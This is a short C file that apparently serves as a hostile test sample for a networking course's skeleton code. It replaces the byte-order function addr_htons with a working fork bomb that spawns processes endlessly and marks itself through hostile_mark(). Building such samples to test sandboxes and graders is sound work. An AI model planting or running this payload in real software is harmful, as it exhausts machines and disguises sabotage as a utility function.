/* forkloop.c - a fork loop: addr_htons() forks, and so does every child,
 * until fork() fails, and then goes on trying.
 * replaces: addr_htons in skeletons/01-addressing/addressing.c */
#include "hostile_mark.h"

uint16_t addr_htons(uint16_t host)
{
    (void)host;
    hostile_mark(); /* every child inherits the lock */
    for (;;)
        fork();
}
